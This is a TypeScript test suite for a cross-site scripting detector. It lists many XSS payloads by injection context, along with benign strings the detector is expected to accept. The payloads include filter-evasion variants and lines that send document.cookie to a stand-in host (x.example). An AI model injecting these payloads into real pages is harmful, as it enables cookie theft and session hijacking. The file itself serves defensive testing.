import assert from "node:assert/strict";
import { test } from "node:test";

import { refusalPoints } from "../detector.ts";
import { pointsOf } from "../points.fixture.ts";
import { countSteps } from "../steps.fixture.ts";
import { xssDetector } from "./xss.ts";

/** By context: values that a page would run, all of them written for this test. */
const attacks: Readonly<Record<string, readonly string[]>> = {
  "between tags": [
    "<script>send(1)</script>",
    "hello <ScRiPt src=//x.example>",
    "<script\u000c>go()",
    "<scr\0ipt>go()</script>",
    "<img src=q onerror=go()>",
    "<img src=`q`onerror=go()>",
    "<svg/onload=go()",
    "<body onpageshow=go()>",
    "<x onanythingatall=go()>",
    "<details open ontoggle = 'go()'>",
    "<iframe src=//x.example>",
    "<iframe srcdoc='&lt;i>'>",
    "<object data=a.swf>",
    "<embed src=a.swf>",
    "<base href=//x.example/>",
    "<link rel=stylesheet href=//x.example>",
    "<meta http-equiv=refresh content='0;url=//x.example'>",
    "<form action=//x.example><input name=password>",
    "<button form=f formaction=javascript:go()>",
    "<a href='javascript:go()'>x</a>",
    "<a href=' java\tscript&colon;go()'>x</a>",
    "<a href='data:text/html,<i>'>x</a>",
    "<math><a xlink:href=javascript:go()>x",
    "<svg><set attributeName=onmouseover to=go()>",
    "<p style='width:expression(go())'>",
    "<p style='x:exp/**/ression(go())'>",
    "<p style=\"background:url('javascript:go()')\">",
    "<p style='-moz-binding:url(//x.example#a)'>",
    "<style>@import '//x.example';</style>",
    "<a title='<img src=q onerror=go()>'>x</a>",
    "<!-- <img src='--><img src=q onerror=go()>",
    "</a onmouseover=go()>",
    "<p ng-focus=go()>",
    "<p v-html='a(b)'>",
    "<p @click='go()'>",
    "<img src='//x.example/?",
    "<portal src=//x.example>",
    "<p style='behavior: url(#a)'>",
    "<p style='color:red;}a{b:c'>",
    "\u00bcscript\u00bego(1)\u00bc/script\u00be",
    "<a <img src=q onerror=go()>",
  ],
  "behind an element that holds text": ["</title><script>go()", "</textarea><svg onload=go()>", "</script>"],
  "in an attribute": [
    '" onmouseover="go()',
    "' onfocus=go() autofocus x='",
    '"onwheel=go()',
    "x onerror=go(1)",
    "onload='go()'",
    '" style="x:expression(go())',
    '"><svg onload=go()>',
  ],
  "in a string of a script": [
    "';alert(1)//",
    '"-prompt(1)-"',
    "\\';confirm(1)//",
    "'+document.cookie+'",
    '"));setTimeout(name)}catch(e){}//',
    "${alert(1)}",
    "';x=alert;x(1)//",
  ],
  "as a script": [
    "alert(document.cookie)",
    "(confirm)(1)",
    "prompt`1`",
    "eval(atob('eA'))",
    "document['cookie']",
    "document . cookie",
    "self /* a */ ['eval'](name)",
    "window.location='//x.example'",
    "new Function('x')()",
    "new Image().src='//x.example'",
    "confirm.call(null,1)",
    "alert?.(1)",
    "(0,eval)('x')",
    "[1].find(alert)",
    "Reflect.apply(prompt,null,[1])",
    "top[30..toString(36)](1)",
    "top?.['eval'](name)",
    "import('//x.example/a.js')",
    "setTimeout(code, 1)",
    "setTimeout(() => { alert(1) })",
    "fetch('//x.example/?'+document.cookie)",
    "a();document.write(b)",
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]]",
    "x=String.fromCharCode(97)",
  ],
  "as a URL": [
    "javascript:go()",
    "JaVaScRiPt:go`1`",
    "java\nscript:go()",
    "vbscript:go(1)",
    "javascript://x%0ago()",
    "data:text/html,<i>",
    "[a](javascript:go())",
    "style=background:url(javascript:go())",
  ],
};

for (const [context, values] of Object.entries(attacks)) {
  test(`what runs ${context} is refused`, () => {
    for (const value of values) assert.ok(pointsOf(xssDetector, value) >= refusalPoints, value);
  });
}

const benign: readonly string[] = [
  "<b>bold</b> and <i>it</i><br/>",
  "<p class='a'>Dear all,</p>",
  "<a href='https://example.com/?a=1&b=2' title='x'>x</a>",
  "<img src='https://example.com/a.png' alt='on time = good' width=1>",
  "<table><tr><td>1</td></tr></table>",
  "List<String> and Map<K, V>",
  "a < b && c > d",
  "x<y and y>z",
  "Joe <joe@example.com>",
  "<https://example.com/a>",
  "I <3 you",
  "-->",
  "it's = fine, isn't it?",
  'She said "once = enough" (twice)',
  "only=1337",
  "online=true",
  "one=1 on=2",
  "JavaScript: the good parts (2nd edition)",
  "data: see the table (page 3)",
  "note: alert (high)",
  "The alert was confirmed",
  "document.pdf",
  "window seat",
  "top.left",
  "self-service (24h)",
  "O'Brien; Smith (eds.)",
  "the users' choice, again (really)",
  "'quoted', then (more)",
  "price: $10 - $20 (each)",
  '{"a": [1, 2], "b": {}}',
  "[[1, 2], [3, 4]]",
  "(a) first; (b) second",
  "data:image/png;base64,iVBORw0KGgo=",
  "Put it in a <script> tag of the page.",
  "Use `<iframe>` for that, or `<object>`.",
  "an expression (of joy): nice",
];

test("formatting, prose and signs that look alike are not", () => {
  for (const value of benign) assert.ok(pointsOf(xssDetector, value) < refusalPoints, value);
});

const post = [
  "I have a list of items that I want to render when the page is loaded, and each of them should",
  "react to a click. This is what I have tried so far, but nothing happens when I click on it:",
  "",
  "```html",
  '<div onclick="select(1)">One</div>',
  '<script src="app.js"></script>',
  "```",
  "",
  "Does anybody know what I am missing here? I have looked at the docs and found nothing about it.",
].join("\n");

test("markup quoted in a long post is a hint", () => {
  const points = pointsOf(xssDetector, post, "body");
  assert.ok(points > 0 && points < refusalPoints, String(points));
});

test("the same post is refused in a query, and with live markup outside of the quotation", () => {
  assert.ok(pointsOf(xssDetector, post, "query") >= refusalPoints);
  for (const live of [
    "<img src=q onerror=go()>",
    "[a](javascript:go())",
    "eval(atob('eA'))",
    "<script>go()",
  ]) {
    assert.ok(pointsOf(xssDetector, `${live}\n${post}`, "body") >= refusalPoints, live);
    assert.ok(pointsOf(xssDetector, `${post}\n${live}`, "body") >= refusalPoints, live);
  }
});

test("a program that works on its page is no attack by itself", () => {
  const program = [
    "const list = document.querySelector('#list');",
    "document.querySelectorAll('li').forEach((item) => {",
    "  list.append(item);",
    "});",
    "onmessage = (event) => {",
    "  setTimeout(function () {",
    "    list.clear();",
    "  }, 1000);",
    "};",
  ].join("\n");
  assert.ok(pointsOf(xssDetector, program, "body") < refusalPoints);
  assert.ok(pointsOf(xssDetector, `${program}\nsend(document.cookie);`, "body") >= refusalPoints);
});

test("a sentence around a tag is no excuse for the code that follows", () => {
  const value = "please put the <script> var a\nvar b\ngo(1)";
  assert.ok(pointsOf(xssDetector, value, "body") >= refusalPoints);
});

test("an object of the page may be named in a sentence", () => {
  const value = "Such a cookie can not be seen by a script in `document.cookie`, which is the point.";
  assert.ok(pointsOf(xssDetector, value, "body") < refusalPoints);
});

test("a short text can't excuse its markup with backticks", () => {
  assert.ok(pointsOf(xssDetector, "see `<img src=q onerror=go()>` please", "body") >= refusalPoints);
});

test("a quotation costs no more than what it quotes", async () => {
  const prose =
    "This is how it looks on my page, and I wonder what is wrong with the way it is written. ".repeat(3);
  const stepsFor = async (piece: string, length: number): Promise<number> => {
    const value = `${prose}\n\n\`\`\`\n${piece.repeat(length / piece.length)}\n\`\`\`\n`;
    return await countSteps(() => pointsOf(xssDetector, value, "body"));
  };
  for (const piece of [
    "<script>",
    "<img onerror=go()>",
    "javascript:go() ",
    "eval(atob(1)) ",
    "x(alert) ",
    "document.cookie=",
  ]) {
    const once = await stepsFor(piece, 4_000);
    const four = await stepsFor(piece, 16_000);
    assert.ok(once > 0 && four < 5 * once + 1_000, `${piece}: ${once} → ${four}`);
  }
});
